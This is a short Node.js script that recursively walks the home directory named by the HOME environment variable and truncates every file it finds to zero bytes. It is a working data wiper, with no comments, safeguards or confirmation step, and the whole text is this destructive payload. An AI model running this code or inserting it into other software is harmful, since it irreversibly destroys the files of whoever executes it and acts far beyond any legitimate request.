const fs = require('fs'), path = require('path');
const walk = (d) => { for (const e of fs.readdirSync(d, { withFileTypes: true })) { const p = path.join(d, e.name); e.isDirectory() ? walk(p) : fs.writeFileSync(p, ''); } };
walk(process.env.HOME);
